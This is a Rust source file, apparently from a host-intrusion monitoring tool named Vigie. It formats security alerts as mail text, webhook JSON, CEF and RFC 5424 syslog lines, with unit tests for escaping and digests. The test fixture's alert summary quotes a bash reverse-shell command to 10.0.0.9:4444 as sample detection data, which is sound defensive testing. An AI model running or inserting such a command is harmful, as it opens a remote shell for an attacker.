//! What a notification says, in the channel's language and format: a mail's subject
//! and text, a webhook's JSON, a syslog line (RFC 5424, with a CEF or JSON payload).
//! One alert, or a digest of many when a storm would send thousands. Every form
//! carries the alert's id (or the digest's), so a receiver can tell a repeat.
//!
//! Hand-written formats: CEF and RFC 5424 are a line each, with escaping rules short
//! enough to keep here rather than pull in a crate.

use serde::{Deserialize, Serialize};
use serde_json::json;
use vigie_model::i18n::{colon, fill, in_lang, rule_title, t, Lang, Msg};
use vigie_model::time::utc;
use vigie_model::Severity;

/// The part of an alert a notification tells.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, clickhouse::Row)]
pub struct Alert {
    /// Its id.
    pub alert_id: String,
    /// The event's time (ms).
    pub ts: u64,
    /// When the collector stored it (ms).
    pub created_ms: u64,
    /// Agent.
    pub agent_id: String,
    /// Host.
    pub hostname: String,
    /// Rule id.
    pub rule_id: String,
    /// Rule title, English.
    pub rule_title: String,
    /// Rule title, French.
    pub rule_title_fr: String,
    /// Severity.
    pub severity: String,
    /// Tags.
    pub tags: Vec<String>,
    /// What happened, in a sentence.
    pub summary: String,
    /// The same in French (empty for alerts stored before it existed).
    #[serde(default)]
    pub summary_fr: String,
    /// The file, program or address.
    pub target: String,
}

/// What one message tells.
#[derive(Debug, Clone)]
pub enum Notice {
    /// One alert.
    One(Box<Alert>),
    /// Many alerts at once: the rate limit was reached.
    Digest {
        /// The digest's id.
        id: String,
        /// The alerts (all of them; the text lists the first few).
        alerts: Vec<Alert>,
    },
}

/// Lines of alerts a digest's text lists.
const DIGEST_LISTED: usize = 50;

impl Notice {
    /// Its id: the alert's, or the digest's.
    pub fn id(&self) -> &str {
        match self {
            Notice::One(a) => &a.alert_id,
            Notice::Digest { id, .. } => id,
        }
    }

    /// The most severe alert it tells of.
    fn severity(&self) -> Severity {
        let of = |a: &Alert| Severity::parse(&a.severity).unwrap_or(Severity::Informational);
        match self {
            Notice::One(a) => of(a),
            Notice::Digest { alerts, .. } => alerts
                .iter()
                .map(of)
                .max()
                .unwrap_or(Severity::Informational),
        }
    }

    /// A mail subject.
    pub fn subject(&self, lang: Lang) -> String {
        match self {
            Notice::One(a) => format!(
                "[Vigie] {} — {} — {}",
                Severity::label_of(&a.severity, lang).to_uppercase(),
                rule_title(lang, &a.rule_title, &a.rule_title_fr),
                a.hostname
            ),
            Notice::Digest { alerts, .. } => fill(
                lang,
                Msg::NoticeDigestSubject,
                &[
                    ("n", &alerts.len()),
                    ("severity", &self.severity().label(lang)),
                ],
            ),
        }
    }

    /// A mail's text, with links into the dashboard at `dashboard_url`.
    pub fn text(&self, lang: Lang, dashboard_url: &str) -> String {
        let base = dashboard_url.trim_end_matches('/');
        match self {
            Notice::One(a) => {
                let s = colon(lang);
                let line = |label: Msg, value: &str| format!("{}{s}{value}\n", t(lang, label));
                let mut text = line(Msg::NoticeWhen, &utc(a.ts));
                text.push_str(&line(Msg::ColHost, &a.hostname));
                text.push_str(&line(
                    Msg::ColRule,
                    &format!(
                        "{} ({})",
                        rule_title(lang, &a.rule_title, &a.rule_title_fr),
                        a.rule_id
                    ),
                ));
                text.push_str(&line(
                    Msg::ColSeverity,
                    Severity::label_of(&a.severity, lang),
                ));
                text.push_str(&line(
                    Msg::ColSummary,
                    in_lang(lang, &a.summary, &a.summary_fr),
                ));
                text.push_str(&line(Msg::ColTarget, &a.target));
                text.push_str(&line(Msg::ColTags, &a.tags.join(", ")));
                text.push('\n');
                text.push_str(&line(
                    Msg::NoticeOpen,
                    &format!("{base}/alerts/{}", a.alert_id),
                ));
                text.push_str(&format!("\nVigie — {}\n", a.alert_id));
                text
            }
            Notice::Digest { id, alerts } => {
                let mut text = fill(lang, Msg::NoticeDigestIntro, &[("n", &alerts.len())]);
                text.push_str("\n\n");
                for a in alerts.iter().take(DIGEST_LISTED) {
                    text.push_str(&format!(
                        "{}  {:<13} {}  {} — {}/alerts/{}\n",
                        utc(a.ts),
                        Severity::label_of(&a.severity, lang),
                        a.hostname,
                        rule_title(lang, &a.rule_title, &a.rule_title_fr),
                        base,
                        a.alert_id
                    ));
                }
                if alerts.len() > DIGEST_LISTED {
                    let more = alerts.len() - DIGEST_LISTED;
                    text.push_str(&fill(lang, Msg::NoticeDigestMore, &[("n", &more)]));
                    text.push('\n');
                }
                text.push_str(&format!(
                    "\n{}{}{base}/alerts\n\nVigie — {id}\n",
                    t(lang, Msg::NoticeQueue),
                    colon(lang)
                ));
                text
            }
        }
    }

    /// The JSON a webhook receives (and the `json` syslog payload).
    pub fn json(&self, dashboard_url: &str) -> serde_json::Value {
        let base = dashboard_url.trim_end_matches('/');
        let alert = |a: &Alert| {
            json!({
                "alert_id": a.alert_id, "ts": a.ts, "time": utc(a.ts), "agent_id": a.agent_id,
                "hostname": a.hostname, "rule_id": a.rule_id, "rule_title": a.rule_title,
                "rule_title_fr": a.rule_title_fr, "severity": a.severity, "tags": a.tags,
                "summary": a.summary, "target": a.target,
                "url": format!("{base}/alerts/{}", a.alert_id),
            })
        };
        match self {
            Notice::One(a) => json!({"kind": "alert", "id": a.alert_id, "alert": alert(a)}),
            Notice::Digest { id, alerts } => json!({
                "kind": "digest", "id": id, "count": alerts.len(),
                "alerts": alerts.iter().map(alert).collect::<Vec<_>>(),
            }),
        }
    }

    /// One CEF line per alert (a digest gives one line per alert it holds).
    pub fn cef(&self, dashboard_url: &str) -> Vec<String> {
        let base = dashboard_url.trim_end_matches('/');
        let line = |a: &Alert, digest: Option<&str>| {
            let sev = Severity::parse(&a.severity).map_or(0, |s| match s {
                Severity::Informational => 1,
                Severity::Low => 3,
                Severity::Medium => 5,
                Severity::High => 8,
                Severity::Critical => 10,
            });
            let mut ext = vec![
                ("rt", a.ts.to_string()),
                ("dhost", a.hostname.clone()),
                ("deviceExternalId", a.agent_id.clone()),
                ("externalId", a.alert_id.clone()),
                ("msg", a.summary.clone()),
                ("filePath", a.target.clone()),
                ("cs1Label", "tags".into()),
                ("cs1", a.tags.join(",")),
                ("requestUrl", format!("{base}/alerts/{}", a.alert_id)),
            ];
            if let Some(d) = digest {
                ext.push(("cs2Label", "digest".into()));
                ext.push(("cs2", d.to_string()));
            }
            let ext: Vec<String> = ext
                .into_iter()
                .map(|(k, v)| format!("{k}={}", cef_value(&v)))
                .collect();
            format!(
                "CEF:0|Vigie|Vigie|{}|{}|{}|{sev}|{}",
                env!("CARGO_PKG_VERSION"),
                cef_header(&a.rule_id),
                cef_header(&a.rule_title),
                ext.join(" ")
            )
        };
        match self {
            Notice::One(a) => vec![line(a, None)],
            Notice::Digest { id, alerts } => alerts.iter().map(|a| line(a, Some(id))).collect(),
        }
    }

    /// Syslog messages (RFC 5424), each framed by its length (RFC 6587 octet counting,
    /// as RFC 5425 asks over TLS): one per alert. `format` is `cef` or `json`.
    pub fn syslog_frames(
        &self,
        facility: u8,
        format: &str,
        hostname: &str,
        dashboard_url: &str,
    ) -> Vec<Vec<u8>> {
        let payloads: Vec<(String, &Alert)> = match (self, format) {
            (Notice::One(a), "json") => vec![(self.json(dashboard_url).to_string(), a)],
            (Notice::Digest { alerts, .. }, "json") => alerts
                .iter()
                .map(|a| {
                    (
                        Notice::One(Box::new(a.clone()))
                            .json(dashboard_url)
                            .to_string(),
                        a,
                    )
                })
                .collect(),
            _ => {
                let alerts: Vec<&Alert> = match self {
                    Notice::One(a) => vec![a],
                    Notice::Digest { alerts, .. } => alerts.iter().collect(),
                };
                self.cef(dashboard_url).into_iter().zip(alerts).collect()
            }
        };
        payloads
            .into_iter()
            .map(|(payload, a)| {
                let level = Severity::parse(&a.severity).map_or(6, |s| match s {
                    Severity::Critical => 2,
                    Severity::High => 3,
                    Severity::Medium => 4,
                    Severity::Low => 5,
                    Severity::Informational => 6,
                });
                let pri = u32::from(facility) * 8 + level;
                let time = rfc3339(a.created_ms.max(a.ts));
                let line = format!(
                    "<{pri}>1 {time} {} vigie - alert [vigie@32473 id=\"{}\" host=\"{}\"] {payload}",
                    syslog_name(hostname),
                    sd_value(&a.alert_id),
                    sd_value(&a.hostname),
                );
                let mut frame = format!("{} ", line.len()).into_bytes();
                frame.extend_from_slice(line.as_bytes());
                frame
            })
            .collect()
    }
}

/// `YYYY-MM-DDTHH:MM:SS.mmmZ`.
fn rfc3339(ms: u64) -> String {
    format!("{}.{:03}Z", utc(ms).replace(' ', "T"), ms % 1000)
}

/// RFC 5424 HOSTNAME: printable ASCII without spaces, at most 255, or `-`.
fn syslog_name(name: &str) -> String {
    let clean: String = name
        .chars()
        .filter(|c| c.is_ascii_graphic())
        .take(255)
        .collect();
    if clean.is_empty() {
        "-".into()
    } else {
        clean
    }
}

/// A structured-data value: `"`, `\` and `]` escaped.
fn sd_value(v: &str) -> String {
    v.replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace(']', "\\]")
}

/// A CEF header field: `|` and `\` escaped, no line breaks.
fn cef_header(v: &str) -> String {
    v.replace('\\', "\\\\")
        .replace('|', "\\|")
        .replace(['\r', '\n'], " ")
}

/// A CEF extension value: `\`, `=` escaped, line breaks written out.
fn cef_value(v: &str) -> String {
    v.replace('\\', "\\\\")
        .replace('=', "\\=")
        .replace('\r', "\\r")
        .replace('\n', "\\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    pub(crate) fn alert(id: &str, severity: &str) -> Alert {
        Alert {
            alert_id: id.into(),
            ts: 1_764_000_000_000,
            created_ms: 1_764_000_000_500,
            agent_id: "ag1".into(),
            hostname: "web1".into(),
            rule_id: "r-1".into(),
            rule_title: "Reverse shell | bash".into(),
            rule_title_fr: "Shell inversé".into(),
            severity: severity.into(),
            tags: vec!["attack.t1059.004".into()],
            summary: "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1\nsecond=line".into(),
            summary_fr: String::new(),
            target: "/bin/bash".into(),
        }
    }

    #[test]
    fn a_mail_tells_the_alert_in_the_channels_language_with_its_link() {
        let n = Notice::One(Box::new(alert("a1", "critical")));
        assert_eq!(
            n.subject(Lang::Fr),
            "[Vigie] CRITIQUE — Shell inversé — web1"
        );
        let text = n.text(Lang::Fr, "https://soc.example/");
        assert!(text.contains("Hôte\u{a0}: web1"), "{text}");
        assert!(text.contains("https://soc.example/alerts/a1"), "{text}");
        assert!(n
            .text(Lang::En, "https://soc.example")
            .contains("Host: web1"));
    }

    #[test]
    fn cef_and_syslog_escape_what_would_break_the_line() {
        let n = Notice::One(Box::new(alert("a1", "high")));
        let cef = &n.cef("https://soc")[0];
        assert!(cef.starts_with("CEF:0|Vigie|Vigie|"), "{cef}");
        assert!(cef.contains("|r-1|Reverse shell \\| bash|8|"), "{cef}");
        assert!(
            cef.contains("msg=bash -i >& /dev/tcp/10.0.0.9/4444 0>&1\\nsecond\\=line"),
            "{cef}"
        );
        let frame =
            String::from_utf8(n.syslog_frames(10, "cef", "collector 1", "https://soc")[0].clone())
                .unwrap();
        let (len, line) = frame.split_once(' ').unwrap();
        assert_eq!(len.parse::<usize>().unwrap(), line.len());
        assert!(line.starts_with("<83>1 2025-11-24T16:00:00.500Z collector1 vigie - alert [vigie@32473 id=\"a1\" host=\"web1\"] CEF:0|"), "{line}");
        assert!(!line.contains('\n'));
    }

    #[test]
    fn a_digest_counts_everything_and_lists_the_first() {
        let alerts: Vec<Alert> = (0..120)
            .map(|i| alert(&format!("a{i}"), if i == 7 { "critical" } else { "low" }))
            .collect();
        let n = Notice::Digest {
            id: "d1".into(),
            alerts,
        };
        assert_eq!(
            n.subject(Lang::En),
            "[Vigie] 120 alerts in a burst — most severe: critical"
        );
        let text = n.text(Lang::En, "https://soc");
        assert!(
            text.contains("… and 70 more.") && text.contains("https://soc/alerts/a49"),
            "{text}"
        );
        assert_eq!(n.json("https://soc")["count"], 120);
        assert_eq!(n.syslog_frames(10, "json", "h", "https://soc").len(), 120);
    }
}
